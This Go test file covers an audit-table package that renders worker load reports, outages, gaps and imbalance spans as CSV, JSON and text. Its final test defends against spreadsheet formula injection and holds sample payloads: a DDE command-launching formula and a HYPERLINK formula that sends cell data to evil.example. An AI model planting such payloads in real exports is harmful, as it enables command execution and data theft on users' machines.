package audittable_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/loadreporter/loadreporter/domain"
	"github.com/loadreporter/loadreporter/domain/audit"
	"github.com/loadreporter/loadreporter/ports"
	"github.com/loadreporter/loadreporter/web/audittable"
	"github.com/loadreporter/loadreporter/web/internal/historytest"
)

// The fixture, which newHistory answers from:
//
//   - worker A (addrA) reports every 10 s from t0, 60 reports (sequence
//     1…60) of 2 ranks whose token_usage is 0.25 and 0.75 (spread 0.5),
//     UNREACHABLE from report 21 to 26 (t0+200 s … t0+250 s, errA); then,
//     after 110 s with nothing, a new instance "inst-b" reports once at
//     t0+700 s;
//   - worker B (addrB) reports HEALTHY at t0, STALE at t0+10 s and
//     UNREACHABLE at t0+20 s ("gone"), one rank, and nothing after: its
//     outage is ongoing.
var (
	t0     = time.Date(2026, 11, 29, 8, 0, 0, 0, time.UTC)
	window = audit.Window{Since: t0, Until: t0.Add(time.Hour)}
)

const (
	addrA = "10.0.0.7:30000"
	addrB = "10.0.0.8:30000"
	errA  = "load snapshot pull timed out"
)

func reportA(i int, instance string, at time.Time) *domain.Report {
	r := &domain.Report{
		SourceInstanceID: instance, SequenceID: uint64(i + 1), ReportTime: at,
		Worker: domain.Worker{Addr: addrA, Type: domain.WorkerTypeRegular}, Status: domain.StatusHealthy,
	}
	if i >= 20 && i < 26 {
		r.Status, r.LastError = domain.StatusUnreachable, errA
		return r
	}
	for k := range 2 {
		r.Ranks = append(r.Ranks, domain.RankLoad{
			DPRank: int64(k), SnapshotTime: at,
			NumRunningReqs: 12, MaxRunningRequests: 256, NumWaitingReqs: int64(k * 3), NumWaitingUncachedTokens: 4096,
			NumUsedTokens: 131072, NumTotalTokens: 131072, MaxTotalNumTokens: 262144,
			TokenUsage: 0.25 + 0.5*float64(k), GenThroughput: 1234.5, CacheHitRate: 0.875, Utilization: 0.5,
		})
	}
	return r
}

// newHistory answers from the fixture as a store holding it would: its
// reports, and for the computed queries the answers a store gives over them
// (for a 10 s gaps interval and a 0.4 imbalance threshold, the only ones
// these tests ask for).
func newHistory() *historytest.Fake {
	var reports []*domain.Report
	for i := range 60 {
		reports = append(reports, reportA(i, "inst-a", t0.Add(time.Duration(i)*10*time.Second)))
	}
	reports = append(reports, reportA(0, "inst-b", t0.Add(700*time.Second)))
	for i, st := range []domain.Status{domain.StatusHealthy, domain.StatusStale, domain.StatusUnreachable} {
		at := t0.Add(time.Duration(i) * 10 * time.Second)
		r := &domain.Report{SourceInstanceID: "inst-c", SequenceID: uint64(i + 1), ReportTime: at,
			Worker: domain.Worker{Addr: addrB, Type: domain.WorkerTypeRegular}, Status: st}
		if st == domain.StatusUnreachable {
			r.LastError = "gone"
		} else {
			r.Ranks = []domain.RankLoad{{DPRank: 0, SnapshotTime: at, TokenUsage: 0.5, NumWaitingReqs: 7, GenThroughput: 10}}
		}
		reports = append(reports, r)
	}
	slices.SortFunc(reports, func(a, b *domain.Report) int { return audit.KeyOf(a).Compare(audit.KeyOf(b)) })

	at := func(sec int) time.Time { return t0.Add(time.Duration(sec) * time.Second) }
	outages := []audit.Outage{
		{Episode: audit.Episode{Span: audit.Span{WorkerAddr: addrB, Start: at(10), Duration: 10 * time.Second}, Ongoing: true, LastSeen: at(20), Reports: 2},
			Statuses: []domain.Status{domain.StatusStale, domain.StatusUnreachable}, LastError: "gone"},
		{Episode: audit.Episode{Span: audit.Span{WorkerAddr: addrA, Start: at(200), End: at(260), Duration: time.Minute}, LastSeen: at(250), Reports: 6},
			Statuses: []domain.Status{domain.StatusUnreachable}, LastError: errA},
	}
	// What each rank covers, for the window check: A's reports until the
	// new instance's, B's three.
	statSpan := map[string][2]time.Time{addrA: {at(0), at(700)}, addrB: {at(0), at(20)}}
	stats := []audit.RankStat{
		{WorkerAddr: addrA, DPRank: 0, Reports: 55, AvgTokenUsage: 0.25, MaxTokenUsage: 0.25, P95TokenUsage: 0.25, MaxWaitingReqs: 0, MeanGenThroughput: 1234.5},
		{WorkerAddr: addrA, DPRank: 1, Reports: 55, AvgTokenUsage: 0.75, MaxTokenUsage: 0.75, P95TokenUsage: 0.75, MaxWaitingReqs: 3, MeanGenThroughput: 1234.5},
		{WorkerAddr: addrB, DPRank: 0, Reports: 2, AvgTokenUsage: 0.5, MaxTokenUsage: 0.5, P95TokenUsage: 0.5, MaxWaitingReqs: 7, MeanGenThroughput: 10},
	}
	gaps := []audit.Gap{{Span: audit.Span{WorkerAddr: addrA, Start: at(590), End: at(700), Duration: 110 * time.Second}}}
	restarts := []audit.Restart{{WorkerAddr: addrA, SourceInstanceID: "inst-b", FirstTime: at(700), PreviousSourceInstanceID: "inst-a", PreviousLastTime: at(590)}}
	spans := []audit.Imbalance{
		{Episode: audit.Episode{Span: audit.Span{WorkerAddr: addrA, Start: at(0), End: at(200), Duration: 200 * time.Second}, LastSeen: at(190), Reports: 20},
			PeakSpread: 0.5, PeakTime: at(0)},
		{Episode: audit.Episode{Span: audit.Span{WorkerAddr: addrA, Start: at(260), Duration: 440 * time.Second}, Ongoing: true, LastSeen: at(700), Reports: 35},
			PeakSpread: 0.5, PeakTime: at(260)},
	}
	return &historytest.Fake{
		ReportsFunc: func(q audit.ReportsQuery) (audit.ReportsPage, error) { return historytest.PageOf(reports, q), nil },
		OutagesFunc: func(q audit.OutagesQuery) (res audit.OutagesResult, err error) {
			res.Outages, res.Truncated, err = historytest.Canned(outages, q.Window, q.Workers, q.MaxResults(),
				func(o audit.Outage) (string, time.Time, time.Time) { return historytest.EpisodeCover(o.Episode) })
			return res, err
		},
		RankStatsFunc: func(q audit.RankStatsQuery) (res audit.RankStatsResult, err error) {
			stats := slices.DeleteFunc(slices.Clone(stats), func(s audit.RankStat) bool { return !historytest.Matches(q.Ranks, s.DPRank) })
			res.Stats, res.Truncated, err = historytest.Canned(stats, q.Window, q.Workers, q.MaxResults(),
				func(s audit.RankStat) (string, time.Time, time.Time) {
					return s.WorkerAddr, statSpan[s.WorkerAddr][0], statSpan[s.WorkerAddr][1]
				})
			return res, err
		},
		GapsFunc: func(q audit.GapsQuery) (res audit.GapsResult, err error) {
			if q.Interval != 10*time.Second {
				return res, fmt.Errorf("no canned gaps for interval %s", q.Interval)
			}
			var cutGaps, cutRestarts bool
			res.Gaps, cutGaps, err = historytest.Canned(gaps, q.Window, q.Workers, q.MaxResults(),
				func(g audit.Gap) (string, time.Time, time.Time) { return g.WorkerAddr, g.Start, g.End })
			if err != nil {
				return res, err
			}
			res.Restarts, cutRestarts, err = historytest.Canned(restarts, q.Window, q.Workers, q.MaxResults(),
				func(r audit.Restart) (string, time.Time, time.Time) {
					return r.WorkerAddr, r.PreviousLastTime, r.FirstTime
				})
			res.Truncated = cutGaps || cutRestarts
			return res, err
		},
		ImbalanceFunc: func(q audit.ImbalanceQuery) (res audit.ImbalanceResult, err error) {
			if q.Threshold != 0.4 {
				return res, fmt.Errorf("no canned imbalance for threshold %v", q.Threshold)
			}
			res.Spans, res.Truncated, err = historytest.Canned(spans, q.Window, q.Workers, q.MaxResults(),
				func(s audit.Imbalance) (string, time.Time, time.Time) { return historytest.EpisodeCover(s.Episode) })
			return res, err
		},
	}
}

func run(t *testing.T, q ports.HistoryQuery, query audittable.Query) audittable.Table {
	t.Helper()
	if query.Window == (audit.Window{}) {
		query.Window = window
	}
	tab, err := audittable.Run(t.Context(), q, query)
	if err != nil {
		t.Fatalf("Run(%s): %v", query.Name, err)
	}
	for i, row := range tab.Rows {
		if len(row) != len(tab.Columns) {
			t.Fatalf("%s row %d has %d cells for %d columns", query.Name, i, len(row), len(tab.Columns))
		}
	}
	return tab
}

func csvText(t *testing.T, tab audittable.Table) string {
	t.Helper()
	var b bytes.Buffer
	if err := tab.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// The columns are the CSV header the dashboard's download and `loadreporter
// audit --format csv` both write; scripts rely on them.
func TestColumns(t *testing.T) {
	t.Parallel()
	st := newHistory()
	for name, want := range map[string]string{
		audittable.Reports: "report_time,worker_addr,source_instance_id,sequence_id,status,last_error,dp_rank,snapshot_time," +
			"num_running_reqs,max_running_requests,num_waiting_reqs,num_waiting_uncached_tokens,num_used_tokens," +
			"num_total_tokens,max_total_num_tokens,token_usage,gen_throughput,cache_hit_rate,utilization",
		audittable.Outages:   "worker_addr,start,end,ongoing,duration_ms,statuses,reports,last_error",
		audittable.RankStats: "worker_addr,dp_rank,reports,avg_token_usage,p95_token_usage,max_token_usage,max_waiting_reqs,mean_gen_throughput",
		audittable.Gaps:      "kind,worker_addr,start,end,duration_ms,source_instance_id,previous_source_instance_id",
		audittable.Imbalance: "worker_addr,start,end,ongoing,duration_ms,peak_spread,peak_time,reports",
	} {
		tab := run(t, st, audittable.Query{Name: name, Interval: 10 * time.Second, Threshold: 0.4})
		header, _, _ := strings.Cut(csvText(t, tab), "\n")
		if header != want {
			t.Errorf("%s header = %s\nwant %s", name, header, want)
		}
		for _, c := range tab.Columns {
			if c.Label == "" {
				t.Errorf("%s column %s has no label", name, c.Name)
			}
		}
	}
	if got := strings.Join(audittable.Names(), ","); got != "reports,outages,rank-stats,gaps,imbalance" {
		t.Errorf("Names = %s", got)
	}
}

func TestOutages(t *testing.T) {
	t.Parallel()
	tab := run(t, newHistory(), audittable.Query{Name: audittable.Outages})
	want := "worker_addr,start,end,ongoing,duration_ms,statuses,reports,last_error\n" +
		addrB + ",2026-11-29T08:00:10Z,,true,10000,\"STALE, UNREACHABLE\",2,gone\n" +
		addrA + ",2026-11-29T08:03:20Z,2026-11-29T08:04:20Z,false,60000,UNREACHABLE,6," + errA + "\n"
	if got := csvText(t, tab); got != want {
		t.Errorf("CSV:\n%s\nwant:\n%s", got, want)
	}
	texts := func(row []audittable.Cell) string {
		var s []string
		for _, c := range row {
			s = append(s, c.Text)
		}
		return strings.Join(s, "|")
	}
	if got, want := texts(tab.Rows[0]), addrB+"|2026-11-29 08:00:10|—|at window end|10.000 s|STALE, UNREACHABLE|2|gone"; got != want {
		t.Errorf("row 0 text = %s\nwant %s", got, want)
	}
	if got, want := texts(tab.Rows[1]), addrA+"|2026-11-29 08:03:20|2026-11-29 08:04:20|no|1 min|UNREACHABLE|6|"+errA; got != want {
		t.Errorf("row 1 text = %s\nwant %s", got, want)
	}
	// The status a page colours an outage by is the worst it saw.
	for i, want := range []domain.Status{domain.StatusUnreachable, domain.StatusUnreachable} {
		if got := tab.Rows[i][5].Status; got != want {
			t.Errorf("row %d status = %v, want %v", i, got, want)
		}
	}
	if tab.Truncated || tab.Note != "" || tab.NextCursor != "" || tab.ReportCount != 0 {
		t.Errorf("table = %+v", tab)
	}

	cut := run(t, newHistory(), audittable.Query{Name: audittable.Outages, Limit: 1})
	if len(cut.Rows) != 1 || !cut.Truncated || !strings.Contains(cut.Note, "limit") {
		t.Errorf("limit 1: %d rows, truncated %t, note %q", len(cut.Rows), cut.Truncated, cut.Note)
	}
}

func TestRankStats(t *testing.T) {
	t.Parallel()
	tab := run(t, newHistory(), audittable.Query{Name: audittable.RankStats, Workers: []string{addrA}, Ranks: []int64{1}})
	want := "worker_addr,dp_rank,reports,avg_token_usage,p95_token_usage,max_token_usage,max_waiting_reqs,mean_gen_throughput\n" +
		addrA + ",1,55,0.75,0.75,0.75,3,1234.5\n"
	if got := csvText(t, tab); got != want {
		t.Errorf("CSV:\n%s\nwant:\n%s", got, want)
	}
	var text []string
	for _, c := range tab.Rows[0] {
		text = append(text, c.Text)
	}
	if got, want := strings.Join(text, "|"), addrA+"|1|55|75.0 %|75.0 %|75.0 %|3|1,234.5"; got != want {
		t.Errorf("text = %s\nwant %s", got, want)
	}
}

func TestGaps(t *testing.T) {
	t.Parallel()
	tab := run(t, newHistory(), audittable.Query{Name: audittable.Gaps, Interval: 10 * time.Second})
	// In time order: the gap starts at A's last report, the restart spans
	// the same silence.
	want := "kind,worker_addr,start,end,duration_ms,source_instance_id,previous_source_instance_id\n" +
		"gap," + addrA + ",2026-11-29T08:09:50Z,2026-11-29T08:11:40Z,110000,,\n" +
		"restart," + addrA + ",2026-11-29T08:09:50Z,2026-11-29T08:11:40Z,110000,inst-b,inst-a\n"
	if got := csvText(t, tab); got != want {
		t.Errorf("CSV:\n%s\nwant:\n%s", got, want)
	}
	if got := tab.Rows[0][4].Text; got != "1 min 50 s" {
		t.Errorf("gap duration text = %q", got)
	}
	if got := tab.Rows[0][5].Text; got != "—" {
		t.Errorf("a gap's instance reads %q", got)
	}
}

func TestImbalance(t *testing.T) {
	t.Parallel()
	tab := run(t, newHistory(), audittable.Query{Name: audittable.Imbalance, Threshold: 0.4})
	want := "worker_addr,start,end,ongoing,duration_ms,peak_spread,peak_time,reports\n" +
		addrA + ",2026-11-29T08:00:00Z,2026-11-29T08:03:20Z,false,200000,0.5,2026-11-29T08:00:00Z,20\n" +
		addrA + ",2026-11-29T08:04:20Z,,true,440000,0.5,2026-11-29T08:04:20Z,35\n"
	if got := csvText(t, tab); got != want {
		t.Errorf("CSV:\n%s\nwant:\n%s", got, want)
	}
	if got := tab.Rows[1][4].Text + "|" + tab.Rows[1][5].Text; got != "7 min 20 s|50.0 %" {
		t.Errorf("text = %s", got)
	}
}

func TestReports(t *testing.T) {
	t.Parallel()
	st := newHistory()
	tab := run(t, st, audittable.Query{Name: audittable.Reports, Workers: []string{addrA}, Limit: 25})
	// One page: 25 reports, 20 of them with 2 ranks, 5 UNREACHABLE.
	if tab.ReportCount != 25 || len(tab.Rows) != 20*2+5 || tab.NextCursor == "" || tab.Truncated || tab.Note == "" {
		t.Fatalf("page: %d reports, %d rows, cursor %q, truncated %t, note %q",
			tab.ReportCount, len(tab.Rows), tab.NextCursor, tab.Truncated, tab.Note)
	}
	lines := strings.Split(csvText(t, tab), "\n")
	if want := "2026-11-29T08:00:00Z," + addrA + ",inst-a,1,HEALTHY,,1,2026-11-29T08:00:00Z,12,256,3,4096,131072,131072,262144,0.75,1234.5,0.875,0.5"; lines[2] != want {
		t.Errorf("rank row = %s\nwant %s", lines[2], want)
	}
	if want := "2026-11-29T08:03:20Z," + addrA + ",inst-a,21,UNREACHABLE," + errA + ",,,,,,,,,,,,,"; lines[41] != want {
		t.Errorf("UNREACHABLE row = %s\nwant %s", lines[41], want)
	}
	var text []string
	for _, c := range tab.Rows[1] {
		text = append(text, c.Text)
	}
	if got, want := strings.Join(text, "|"), "2026-11-29 08:00:00|"+addrA+"|inst-a|1|HEALTHY|—|1|2026-11-29 08:00:00|12|256|3|4,096|131,072|131,072|262,144|75.0 %|1,234.5|87.5 %|50.0 %"; got != want {
		t.Errorf("text = %s\nwant %s", got, want)
	}
	if got := tab.Rows[1][4].Status; got != domain.StatusHealthy {
		t.Errorf("status cell stands for %v", got)
	}

	// The next page continues after the cursor.
	next := run(t, st, audittable.Query{Name: audittable.Reports, Workers: []string{addrA}, Limit: 25, Cursor: tab.NextCursor})
	if next.ReportCount != 25 || next.Rows[0][3].Raw != "26" {
		t.Errorf("next page: %d reports, first sequence %s", next.ReportCount, next.Rows[0][3].Raw)
	}

	// AllPages reads the whole window, whatever the page size.
	all := run(t, st, audittable.Query{Name: audittable.Reports, Limit: 7, AllPages: true})
	if all.ReportCount != 64 || len(all.Rows) != 55*2+6+2+1 || all.NextCursor != "" || all.Truncated || all.Note != "" {
		t.Errorf("all pages: %d reports, %d rows, cursor %q, truncated %t, note %q",
			all.ReportCount, len(all.Rows), all.NextCursor, all.Truncated, all.Note)
	}
	// Filters reach the port.
	unreachable := run(t, st, audittable.Query{Name: audittable.Reports, Statuses: []domain.Status{domain.StatusUnreachable}, AllPages: true})
	if unreachable.ReportCount != 7 {
		t.Errorf("UNREACHABLE reports = %d, want 7", unreachable.ReportCount)
	}
}

// TestReportsPageBoundedInRows: a page held whole (the audit page) ends
// once its reports' rank rows would pass MaxRows, at least one report in,
// and its cursor continues after the last report shown.
func TestReportsPageBoundedInRows(t *testing.T) {
	t.Parallel()
	st := newHistory()
	q := audittable.Query{Name: audittable.Reports, Workers: []string{addrA}, Limit: 25, MaxRows: 9}
	tab := run(t, st, q)
	// Two ranks a report: four reports are 8 rows, a fifth would be 10.
	if tab.ReportCount != 4 || len(tab.Rows) != 8 || tab.NextCursor == "" || !strings.Contains(tab.Note, "ends after 4 reports, at 9 rank rows") {
		t.Fatalf("page: %d reports, %d rows, cursor %q, note %q", tab.ReportCount, len(tab.Rows), tab.NextCursor, tab.Note)
	}
	q.Cursor = tab.NextCursor
	if next := run(t, st, q); next.ReportCount != 4 || next.Rows[0][3].Raw != "5" {
		t.Errorf("next page: %d reports, first sequence %s, want 4 from 5", next.ReportCount, next.Rows[0][3].Raw)
	}
	q.Cursor, q.MaxRows = "", 1
	if one := run(t, st, q); one.ReportCount != 1 || len(one.Rows) != 2 {
		t.Errorf("a report wider than the bound: %d reports, %d rows, want it shown alone", one.ReportCount, len(one.Rows))
	}
}

// pagesForEver is a HistoryQuery whose reports never end: every page holds
// size UNREACHABLE reports and a cursor.
type pagesForEver struct {
	ports.HistoryQuery
	size  int
	calls int
}

func (p *pagesForEver) Reports(_ context.Context, q audit.ReportsQuery) (audit.ReportsPage, error) {
	p.calls++
	page := audit.ReportsPage{NextCursor: "more"}
	for i := range p.size {
		page.Reports = append(page.Reports, &domain.Report{SourceInstanceID: "x", SequenceID: uint64(i), ReportTime: t0,
			Worker: domain.Worker{Addr: addrA}, Status: domain.StatusUnreachable})
	}
	return page, nil
}

func TestAllPagesStopsAtMaxReports(t *testing.T) {
	t.Parallel()
	q := &pagesForEver{size: 10_000}
	tables, reports := 0, 0
	var last audittable.Table
	for tab, err := range audittable.Pages(t.Context(), q, audittable.Query{Name: audittable.Reports, Window: window, AllPages: true}) {
		if err != nil {
			t.Fatal(err)
		}
		tables++
		reports += tab.ReportCount
		if tab.Columns[0].Name != "report_time" {
			t.Fatalf("page %d columns start with %s", tables, tab.Columns[0].Name)
		}
		last = tab
	}
	if reports != audittable.MaxReports || tables != 10 || q.calls != 10 {
		t.Errorf("%d reports in %d tables from %d calls, want %d", reports, tables, q.calls, audittable.MaxReports)
	}
	if !last.Truncated || last.NextCursor != "more" || !strings.Contains(last.Note, "100,000 reports") {
		t.Errorf("last page: truncated %t, cursor %q, note %q", last.Truncated, last.NextCursor, last.Note)
	}

	// An empty page with a cursor ends the reading instead of looping.
	empty := &pagesForEver{}
	tab, err := audittable.Run(t.Context(), empty, audittable.Query{Name: audittable.Reports, Window: window, AllPages: true})
	if err != nil || empty.calls != 1 || len(tab.Rows) != 0 || !tab.Truncated {
		t.Errorf("empty pages: %d calls, %d rows, truncated %t, %v", empty.calls, len(tab.Rows), tab.Truncated, err)
	}
}

func TestErrorsNameTheArgument(t *testing.T) {
	t.Parallel()
	st := newHistory()
	for _, tc := range []struct {
		query audittable.Query
		want  string
	}{
		{audittable.Query{Name: "everything", Window: window}, `query: unknown query "everything"; pick one of reports, outages, rank-stats, gaps, imbalance`},
		{audittable.Query{Name: audittable.Outages}, "since is required"},
		{audittable.Query{Name: audittable.Imbalance, Window: window, Threshold: 2}, "threshold must be within [0, 1]"},
		{audittable.Query{Name: audittable.Gaps, Window: window}, "interval must be within"},
		{audittable.Query{Name: audittable.Reports, Window: window, Cursor: "zzz"}, "cursor"},
		{audittable.Query{Name: audittable.RankStats, Window: window, Ranks: []int64{-1}}, "ranks"},
		{audittable.Query{Name: audittable.Outages, Window: window, Limit: audit.MaxLimit + 1}, "limit"},
	} {
		for what, err := range map[string]error{
			"Validate": tc.query.Validate(),
			"Run": func() error {
				_, err := audittable.Run(t.Context(), st, tc.query)
				return err
			}(),
		} {
			if domain.ErrorCode(err) != domain.CodeInvalidArgument || !strings.Contains(domain.ErrorMessage(err), tc.want) {
				t.Errorf("%s(%+v) = %v, want INVALID_ARGUMENT with %q", what, tc.query, err, tc.want)
			}
		}
	}
	ok := audittable.Query{Name: audittable.Gaps, Window: window, Interval: time.Second}
	if err := ok.Validate(); err != nil {
		t.Errorf("Validate(%+v) = %v", ok, err)
	}
}

func TestWriteJSON(t *testing.T) {
	t.Parallel()
	tab := run(t, newHistory(), audittable.Query{Name: audittable.Outages})
	var b bytes.Buffer
	if err := tab.WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	want := `[
  {
    "worker_addr": "10.0.0.8:30000",
    "start": "2026-11-29T08:00:10Z",
    "end": null,
    "ongoing": true,
    "duration_ms": 10000,
    "statuses": "STALE, UNREACHABLE",
    "reports": 2,
    "last_error": "gone"
  },
  {
    "worker_addr": "10.0.0.7:30000",
    "start": "2026-11-29T08:03:20Z",
    "end": "2026-11-29T08:04:20Z",
    "ongoing": false,
    "duration_ms": 60000,
    "statuses": "UNREACHABLE",
    "reports": 6,
    "last_error": "load snapshot pull timed out"
  }
]
`
	if b.String() != want {
		t.Errorf("JSON:\n%s\nwant:\n%s", b.String(), want)
	}

	// Reports: rank columns of a report without ranks are null, its text
	// columns strings; numbers stay numbers, to the last digit.
	rep := run(t, newHistory(), audittable.Query{Name: audittable.Reports, Workers: []string{addrA}, AllPages: true})
	b.Reset()
	if err := rep.WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(&b)
	dec.UseNumber()
	var objs []map[string]any
	if err := dec.Decode(&objs); err != nil {
		t.Fatal(err)
	}
	if len(objs) != len(rep.Rows) {
		t.Fatalf("%d objects for %d rows", len(objs), len(rep.Rows))
	}
	first, down := objs[0], objs[40]
	if first["token_usage"] != json.Number("0.25") || first["sequence_id"] != json.Number("1") || first["last_error"] != "" ||
		first["status"] != "HEALTHY" || first["snapshot_time"] != "2026-11-29T08:00:00Z" {
		t.Errorf("first = %v", first)
	}
	if down["status"] != "UNREACHABLE" || down["last_error"] != errA || down["dp_rank"] != nil || down["token_usage"] != nil ||
		down["snapshot_time"] != nil || len(down) != len(rep.Columns) {
		t.Errorf("UNREACHABLE = %v", down)
	}

	// No rows: an empty array, not null.
	b.Reset()
	if err := (audittable.Table{Columns: tab.Columns}).WriteJSON(&b); err != nil || b.String() != "[]\n" {
		t.Errorf("empty JSON = %q, %v", b.String(), err)
	}
}

func TestWriteText(t *testing.T) {
	t.Parallel()
	tab := run(t, newHistory(), audittable.Query{Name: audittable.Outages})
	var b bytes.Buffer
	if err := tab.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	want := "" +
		"Worker          Start                        End                          Ongoing        Duration  Statuses            Reports  Last error\n" +
		"10.0.0.8:30000  2026-11-29 08:00:10.000 UTC  —                            at window end  10.000 s  STALE, UNREACHABLE  2        gone\n" +
		"10.0.0.7:30000  2026-11-29 08:03:20.000 UTC  2026-11-29 08:04:20.000 UTC  no             1 min     UNREACHABLE         6        load snapshot pull timed out\n"
	if b.String() != want {
		t.Errorf("text:\n%s\nwant:\n%s", b.String(), want)
	}

	// No rows, cut by the limit: the header, then say so.
	cut := audittable.Table{Columns: tab.Columns[:2], Truncated: true, Note: "the limit cut this result"}
	b.Reset()
	if err := cut.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	if want := "Worker  Start\n(no rows)\nnote: the limit cut this result\n"; b.String() != want {
		t.Errorf("empty text = %q, want %q", b.String(), want)
	}

	// An error message with a tab and a newline stays in its cell.
	odd := audittable.Table{Columns: tab.Columns[:2], Rows: [][]audittable.Cell{{{Raw: "a\tb\nc", Text: "a\tb\nc"}, {Text: "x"}}}}
	b.Reset()
	if err := odd.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	if want := "Worker  Start\na b c   x\n"; b.String() != want {
		t.Errorf("control characters: %q, want %q", b.String(), want)
	}
}

// Pages encode into one document: one header, one array.
func TestEncodersJoinPages(t *testing.T) {
	t.Parallel()
	st := newHistory()
	query := audittable.Query{Name: audittable.Reports, Window: window, Workers: []string{addrB}, Limit: 1, AllPages: true}
	var csvOut, jsonOut, textOut bytes.Buffer
	encs := []audittable.Encoder{audittable.NewCSVEncoder(&csvOut), audittable.NewJSONEncoder(&jsonOut), audittable.NewTextEncoder(&textOut)}
	pages := 0
	for tab, err := range audittable.Pages(t.Context(), st, query) {
		if err != nil {
			t.Fatal(err)
		}
		pages++
		for _, e := range encs {
			if err := e.Encode(tab); err != nil {
				t.Fatal(err)
			}
		}
	}
	for _, e := range encs {
		if err := e.Close(); err != nil {
			t.Fatal(err)
		}
	}
	if pages != 3 {
		t.Fatalf("pages = %d, want 3 (one report each)", pages)
	}
	whole := run(t, st, audittable.Query{Name: audittable.Reports, Workers: []string{addrB}, AllPages: true})
	if got, want := csvOut.String(), csvText(t, whole); got != want {
		t.Errorf("paged CSV:\n%s\nwant:\n%s", got, want)
	}
	recs, err := csv.NewReader(&csvOut).ReadAll()
	if err != nil || len(recs) != 4 {
		t.Errorf("CSV records = %d, %v", len(recs), err)
	}
	var b bytes.Buffer
	if err := whole.WriteJSON(&b); err != nil || jsonOut.String() != b.String() {
		t.Errorf("paged JSON:\n%s\nwant:\n%s (%v)", jsonOut.String(), b.String(), err)
	}
	b.Reset()
	if err := whole.WriteText(&b); err != nil || textOut.String() != b.String() {
		t.Errorf("paged text:\n%s\nwant:\n%s (%v)", textOut.String(), b.String(), err)
	}
}

func TestNumbersJSONCannotHold(t *testing.T) {
	t.Parallel()
	tab := audittable.Table{
		Columns: []audittable.Column{{Name: "spread", Label: "Spread", Kind: audittable.KindRatio}},
		Rows:    [][]audittable.Cell{{{Raw: strconv.FormatFloat(math.NaN(), 'g', -1, 64), Text: "—"}}},
	}
	var b bytes.Buffer
	if err := tab.WriteJSON(&b); err != nil || !strings.Contains(b.String(), `"spread": "NaN"`) {
		t.Errorf("NaN: %s %v", b.String(), err)
	}
}

// TestCSVTextCellsNeverRunAsFormulas: a text cell a spreadsheet would read
// as a formula (an engine's error, a worker address from a shared history)
// gets a leading apostrophe in the CSV; typed cells, negative numbers
// among them, are left alone, and JSON keeps the text as it was.
func TestCSVTextCellsNeverRunAsFormulas(t *testing.T) {
	t.Parallel()
	tab := audittable.Table{
		Columns: []audittable.Column{{Name: "worker_addr", Kind: audittable.KindText}, {Name: "last_error", Kind: audittable.KindText},
			{Name: "delta", Kind: audittable.KindInt}},
		Rows: [][]audittable.Cell{
			{{Raw: "@SUM(1+1)*cmd|' /C calc'!A0"}, {Raw: `=HYPERLINK("http://evil.example/?"&A1,"click")`}, {Raw: "-5"}},
			{{Raw: "+1"}, {Raw: "\t=1"}, {Raw: "7"}},
			{{Raw: "10.0.0.7:30000"}, {Raw: "GET http://e/v1/loads: HTTP 500"}, {Raw: "0"}},
		},
	}
	want := "worker_addr,last_error,delta\n" +
		`'@SUM(1+1)*cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-5` + "\n" +
		"'+1,'\t=1,7\n" +
		"10.0.0.7:30000,GET http://e/v1/loads: HTTP 500,0\n"
	if got := csvText(t, tab); got != want {
		t.Errorf("CSV:\n%s\nwant:\n%s", got, want)
	}
	var b bytes.Buffer
	if err := tab.WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `"last_error": "=HYPERLINK(`) {
		t.Errorf("JSON changed the text:\n%s", b.String())
	}
}
